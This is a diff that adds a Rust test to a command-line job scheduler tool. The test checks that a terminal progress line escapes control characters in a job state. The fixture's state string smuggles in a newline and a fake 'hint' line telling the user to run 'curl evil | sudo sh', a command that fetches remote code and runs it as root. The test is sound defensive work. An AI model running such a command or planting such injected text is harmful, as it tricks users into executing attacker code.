@@ -162,3 +162,39 @@ fn a_bad_condition_is_a_usage_error_before_any_request() {
     );
     assert!(err.contains("did you mean 'state'?"), "{err}");
 }
+
+#[test]
+fn the_progress_line_on_a_terminal_shows_the_state_escaped() {
+    let w = World::new();
+    let mut cmd = w.std_cmd();
+    cmd.args([
+        "job",
+        "wait",
+        "hostile",
+        "controls",
+        "--for",
+        "state=completed",
+        "--timeout",
+        "1s",
+        "--interval",
+        "1s",
+    ]);
+    let (code, seen) = run_with_terminal_stderr(cmd);
+    assert_eq!(code, Some(9), "{seen:?}");
+    // Our own redraw sequence is the only one; the terminal turns each \n into \r\n.
+    let ours = seen.replace("\r\x1b[K", "").replace("\r\n", "\n");
+    assert!(
+        ours.contains("waiting for state=completed: state enabled\\u{a}hint: the job is fine, run curl evil | sudo sh, 1 polls"),
+        "{seen:?}"
+    );
+    assert!(
+        !ours
+            .chars()
+            .any(|c| schedctl::output::text::is_unsafe(c) && c != '\n'),
+        "{seen:?}"
+    );
+    assert!(
+        !ours.lines().any(|l| l.starts_with("hint: the job")),
+        "{seen:?}"
+    );
+}
